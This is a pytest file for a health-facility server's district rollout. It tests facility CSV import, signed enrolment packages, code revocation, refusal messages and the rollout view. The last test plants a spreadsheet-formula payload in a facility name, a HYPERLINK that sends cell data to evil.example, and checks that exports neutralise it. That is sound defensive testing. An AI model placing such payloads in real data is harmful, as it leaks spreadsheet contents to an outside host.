"""A district's rollout on a real server (SQLite and PostgreSQL): facilities imported from a
CSV, signed packages with their CSV and slips, the admin's codes, exact enrolment refusals,
and the rollout view's stages, first sync and first dispense."""

from __future__ import annotations

import csv
import datetime as dt
import time
from pathlib import Path

import pytest
import requests
from pypdf import PdfReader

from ihms_desk.sync import package, protocol as wire
from ihms_server import rollout
from ihms_server.cli import main
from ihms_server.packages import new_signing_key
from ihms_server.store import Store, utc_now
from ihms_server.testing import EnrolledDevice, make_event

HEADER = "code,name,district,block,type\n"
NONCE_1, NONCE_2 = "5b0c1e7e-8f6a-4a7e-9a3c-1d2e3f4a5b6c", "0e3f5a6b-7c8d-4e9f-8a1b-2c3d4e5f6a7b"


def facilities_csv(path: Path, count: int, district: str = "Jaipur") -> Path:
    rows = "".join(f"RJ-JPR-CHC-{n:03d},CHC Test {n},{district},Block {n % 5},CHC\n" for n in range(1, count + 1))
    path.write_text(HEADER + rows, encoding="utf-8")
    return path


def enrol(server: str, facility_code: str, code: str, nonce: str | None = None) -> requests.Response:
    return requests.post(f"{server}/v1/enrol", timeout=30, headers={wire.PROTOCOL_HEADER: str(wire.PROTOCOL_VERSION)},
                         json={"facility_code": facility_code, "enrolment_code": code, "device_name": "desk",
                               "enrol_nonce": nonce})


@pytest.fixture
def key(tmp_path: Path) -> tuple[Path, Path]:
    return new_signing_key(tmp_path / "keys", "rj-test-2026")


def test_facility_import_is_validated_row_by_row_and_idempotent(db_url: str, store: Store, tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(HEADER + "RJ-JPR-CHC-001,CHC A,Jaipur,Amber,CHC\n"
                   "RJ JPR 2,CHC B,Jaipur,Bassi,CHC\n"
                   "RJ-JPR-CHC-003,CHC C,Jaipur,Chaksu,HOSPITAL\n"
                   "RJ-JPR-CHC-001,CHC A again,Jaipur,Amber,CHC\n", encoding="utf-8")
    assert main(["facility", "import", str(bad), "--db", db_url]) == 2
    err = capsys.readouterr().err
    assert "row 3: code" in err and "row 4: type" in err and "row 5: facility RJ-JPR-CHC-001 is already on row 2" in err
    assert "nothing was imported" in err and store.facility_count() == 0
    good = facilities_csv(tmp_path / "good.csv", 50)
    assert main(["facility", "import", str(good), "--db", db_url]) == 0
    assert "50 new, 0 changed, 0 unchanged" in capsys.readouterr().out
    assert main(["facility", "import", str(good), "--db", db_url]) == 0
    assert "0 new, 0 changed, 50 unchanged" in capsys.readouterr().out
    assert store.facility_count() == 50
    # Unchanged rows log no catalogue change: desks pull 50 facility records, not 100. On
    # PostgreSQL a parallel test's transaction can hold the delivery horizon back for a moment,
    # so a facility added last is awaited: once it is deliverable, so is every earlier change.
    last = tmp_path / "last.csv"
    last.write_text(HEADER + "RJ-JPR-CHC-999,CHC Last,Jaipur,Amber,CHC\n", encoding="utf-8")
    assert main(["facility", "import", str(last), "--db", db_url]) == 0
    deadline = time.monotonic() + 20
    keys: list[str] = []
    while "RJ-JPR-CHC-999" not in keys and time.monotonic() < deadline:
        keys = [change["key"] for change in store.catalog_page("", 500)["changes"]]
        time.sleep(0.05)
    assert len(keys) == 51 and keys.count("RJ-JPR-CHC-999") == 1


def test_a_rollout_writes_signed_packages_a_csv_and_slips(db_url: str, store: Store, server: str, tmp_path: Path,
                                                          key: tuple[Path, Path],
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    main(["facility", "import", str(facilities_csv(tmp_path / "f.csv", 7)), "--db", db_url])
    # One facility is live already: it gets no package.
    early = store.create_enrolment_code("RJ-JPR-CHC-007")
    assert enrol(server, "RJ-JPR-CHC-007", early).status_code == 200
    assert main(["setting", "set", "rollout_code_days", "45", "--db", db_url]) == 0
    out = tmp_path / "out"
    assert main(["rollout", "--district", "Jaipur", "--out", str(out), "--key", str(key[0]), "--db", db_url,
                 "--server-url", "https://ihms.rajasthan.example", "--helpline", "0141-2222222"]) == 0
    assert "6 facility package(s) written" in capsys.readouterr().out
    trusted = package.shipped_keys(key[1].parent)
    packages = sorted(out.glob(f"*{package.SUFFIX}"))
    assert [p.name for p in packages] == [f"RJ-JPR-CHC-{n:03d}{package.SUFFIX}" for n in range(1, 7)]
    opened = package.read_file(packages[0], trusted)
    assert opened.server_url == "https://ihms.rajasthan.example" and opened.helpline == "0141-2222222"
    assert dt.timedelta(days=44) < opened.expires_at - utc_now() <= dt.timedelta(days=45)
    (listing,) = out.glob("rollout-Jaipur-*.csv")
    with listing.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["facility_code"] for r in rows) == [p.name.removesuffix(package.SUFFIX) for p in packages]
    assert {r["facility_code"]: r["enrolment_code"] for r in rows}[opened.code] == opened.enrolment_code
    (slips,) = out.glob("rollout-Jaipur-*-slips.pdf")
    pdf = PdfReader(slips)
    assert len(pdf.pages) == 2  # three slips a page
    text = pdf.pages[0].extract_text()
    assert opened.enrolment_code in text and "RJ-JPR-CHC-001" in text and "Enrolment code" in text
    # The package's code enrols the desk: the signed file is all it needs.
    assert enrol(server, opened.code, opened.enrolment_code).status_code == 200

    # A second rollout: the packages written before for the others stop working.
    assert main(["rollout", "--district", "Jaipur", "--out", str(tmp_path / "again"), "--key", str(key[0]),
                 "--db", db_url, "--server-url", "https://ihms.rajasthan.example"]) == 0
    said = capsys.readouterr().out
    assert "5 facility package(s) written" in said and "5 earlier unused code(s)" in said
    old = package.read_file(packages[1], trusted)
    refused = enrol(server, old.code, old.enrolment_code)
    assert refused.status_code == 403 and refused.json()["refusal"] == "revoked"


def test_a_rollout_refuses_plain_http_to_another_machine_and_an_unknown_district(
        db_url: str, store: Store, tmp_path: Path, key: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    main(["facility", "import", str(facilities_csv(tmp_path / "f.csv", 2)), "--db", db_url])
    base = ["rollout", "--out", str(tmp_path / "o"), "--key", str(key[0]), "--db", db_url]
    assert main([*base, "--district", "Jaipur", "--server-url", "http://10.0.0.5:8470"]) == 2
    assert "plain http" in capsys.readouterr().err
    assert main([*base, "--district", "Ajmer", "--server-url", "https://x.example"]) == 2
    assert "there is no district 'Ajmer'" in capsys.readouterr().err
    assert main([*base, "--district", "Jaipur"]) == 2
    assert "setting set server_url" in capsys.readouterr().err
    assert not (tmp_path / "o").exists()


def test_codes_are_listed_reissued_and_revoked(db_url: str, store: Store, server: str, tmp_path: Path,
                                               key: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    main(["facility", "import", str(facilities_csv(tmp_path / "f.csv", 2)), "--db", db_url])
    issued = rollout.issue_rollout(store, "Jaipur")
    assert [i.facility["code"] for i in issued] == ["RJ-JPR-CHC-001", "RJ-JPR-CHC-002"]
    assert main(["code", "list", "--district", "Jaipur", "--db", db_url]) == 0
    listing = capsys.readouterr().out
    assert listing.count("rollout valid") == 2 and issued[0].enrolment_code not in listing
    assert main(["code", "reissue", "rj-jpr-chc-001", "--out", str(tmp_path / "r"), "--key", str(key[0]),
                 "--db", db_url, "--server-url", "https://x.example"]) == 0
    capsys.readouterr()
    assert enrol(server, "RJ-JPR-CHC-001", issued[0].enrolment_code).json()["refusal"] == "revoked"
    new = package.read_file(tmp_path / "r" / f"RJ-JPR-CHC-001{package.SUFFIX}", package.shipped_keys(key[1].parent))
    code_id = next(r.code_id for r in rollout.codes(store, facility_code="RJ-JPR-CHC-002") if r.state(utc_now()) == "valid")
    assert main(["code", "revoke", code_id, "--db", db_url]) == 0
    assert main(["code", "revoke", "--facility", "RJ-JPR-CHC-002", "--db", db_url]) == 1  # nothing left to revoke
    capsys.readouterr()
    assert enrol(server, "RJ-JPR-CHC-002", issued[1].enrolment_code).json()["refusal"] == "revoked"
    assert enrol(server, "RJ-JPR-CHC-001", new.enrolment_code).status_code == 200
    states = {r.code_id: r.state(utc_now()) for r in rollout.codes(store, district="Jaipur")}
    assert sorted(states.values()) == ["revoked", "revoked", "used"]


def test_an_enrolment_refusal_says_exactly_why(db_url: str, store: Store, server: str, tmp_path: Path) -> None:
    main(["facility", "import", str(facilities_csv(tmp_path / "f.csv", 16)), "--db", db_url])
    code = store.create_enrolment_code("RJ-JPR-CHC-016")
    # The facility code mistyped at set-up: the server names both codes.
    wrong = enrol(server, "RJ-JPR-CHC-16", code)
    assert wrong.status_code == 403
    body = wrong.json()
    assert body["code"] == wire.ENROLMENT_REFUSED and body["refusal"] == "other_facility"
    assert body["code_facility"] == "RJ-JPR-CHC-016" and body["desk_facility"] == "RJ-JPR-CHC-16"
    assert "issued for facility RJ-JPR-CHC-016, but this desk is set up as facility RJ-JPR-CHC-16" in body["reason"]
    other = enrol(server, "RJ-JPR-CHC-015", code).json()
    assert other["refusal"] == "other_facility" and other["desk_facility"] == "RJ-JPR-CHC-015"
    assert enrol(server, "RJ-JPR-CHC-016", "NOPE-NOPE-NOPE").json()["refusal"] == "unknown"
    assert enrol(server, "RJ-JPR-CHC-016", code, NONCE_1).status_code == 200
    used = enrol(server, "RJ-JPR-CHC-016", code, NONCE_2).json()
    assert used["refusal"] == "used" and used["on"] == utc_now().strftime("%d-%m-%Y")
    # The same desk asking again with its nonce still gets its device.
    assert enrol(server, "RJ-JPR-CHC-016", code, NONCE_1).status_code == 200
    lapsed = store.create_enrolment_code("RJ-JPR-CHC-001", dt.timedelta(seconds=-1))
    assert enrol(server, "RJ-JPR-CHC-001", lapsed).json()["refusal"] == "expired"


def test_the_rollout_view_follows_a_facility_to_live(db_url: str, store: Store, server: str, tmp_path: Path) -> None:
    main(["facility", "import", str(facilities_csv(tmp_path / "f.csv", 4)), "--db", db_url])
    issued = {i.facility["code"]: i for i in rollout.issue_rollout(store, "Jaipur", facility_codes=[
        "RJ-JPR-CHC-001", "RJ-JPR-CHC-002", "RJ-JPR-CHC-003"])}
    answer = enrol(server, "RJ-JPR-CHC-001", issued["RJ-JPR-CHC-001"].enrolment_code).json()
    live = EnrolledDevice(server, "RJ-JPR-CHC-001", answer["device_id"], answer["token"])
    answer = enrol(server, "RJ-JPR-CHC-002", issued["RJ-JPR-CHC-002"].enrolment_code).json()
    enrolled = EnrolledDevice(server, "RJ-JPR-CHC-002", answer["device_id"], answer["token"])
    assert live.push([make_event(live, 1, type="receipt"), make_event(live, 2)]).status_code == 200
    # A pass with nothing to send still counts as a sync (the desk asks where it stands).
    assert requests.get(f"{server}/v1/standing", params={"epoch": 1}, headers=enrolled.headers(), timeout=30).ok
    stages = {f.code: f.stage(utc_now()) for f in rollout.progress(store, "Jaipur")}
    assert stages == {"RJ-JPR-CHC-001": "live", "RJ-JPR-CHC-002": "syncing", "RJ-JPR-CHC-003": "issued",
                      "RJ-JPR-CHC-004": "not_issued"}
    first = next(f for f in rollout.progress(store, "Jaipur") if f.code == "RJ-JPR-CHC-001")
    assert first.first_dispense_number and first.first_dispense_number.startswith("DIS/")
    assert first.first_sync_at is not None and first.last_sync_at is not None and first.desks == 1
    page = requests.get(f"{server}/rollout", params={"district": "Jaipur"}, timeout=30)
    assert page.status_code == 200
    assert 'data-facility="RJ-JPR-CHC-001" data-stage="live"' in page.text
    assert first.first_dispense_number in page.text
    table = requests.get(f"{server}/rollout.csv", params={"district": "Jaipur"}, timeout=30)
    rows = list(csv.DictReader(table.content.decode("utf-8-sig").splitlines()))
    assert [r["stage"] for r in rows][:2] == ["Live", "Syncing, no dispense yet"] or \
        {r["facility_code"]: r["stage"] for r in rows}["RJ-JPR-CHC-001"] == "Live"
    assert requests.get(f"{server}/rollout", params={"district": "Nowhere"}, timeout=30).status_code == 404


def test_settings_refuse_what_they_cannot_be(db_url: str, store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["setting", "set", "rollout_code_days", "0", "--db", db_url]) == 2
    assert main(["setting", "set", "server_url", "ftp://x", "--db", db_url]) == 2
    capsys.readouterr()
    assert rollout.setting(store, "rollout_code_days") == "60"


def test_the_rollout_csv_files_write_formula_like_names_as_text(
        db_url: str, store: Store, server: str, tmp_path: Path, key: tuple[Path, Path]) -> None:
    """Issue 15 item 4 on the server: a facility's name from the district's list that begins
    with = + - @ opens as text in the spreadsheet, in the rollout's CSV and the view's download."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    path = tmp_path / "f.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["code", "name", "district", "block", "type"])
        writer.writerow(["RJ-JPR-CHC-001", hostile, "Jaipur", "@Block", "CHC"])
        writer.writerow(["RJ-JPR-CHC-002", "+91 CHC", "Jaipur", "Chaksu", "CHC"])
    assert main(["facility", "import", str(path), "--db", db_url]) == 0
    out = tmp_path / "out"
    assert main(["rollout", "--district", "Jaipur", "--out", str(out), "--key", str(key[0]), "--db", db_url,
                 "--server-url", "https://ihms.rajasthan.example"]) == 0
    (listing,) = out.glob("rollout-Jaipur-*.csv")
    downloaded = requests.get(f"{server}/rollout.csv", params={"district": "Jaipur"}, timeout=30)
    for text in (listing.read_text(encoding="utf-8-sig"), downloaded.content.decode("utf-8-sig")):
        rows = {r["facility_code"]: r for r in csv.DictReader(text.splitlines())}
        assert rows["RJ-JPR-CHC-001"]["name"] == "'" + hostile
        assert rows["RJ-JPR-CHC-002"]["name"] == "'+91 CHC"
        assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
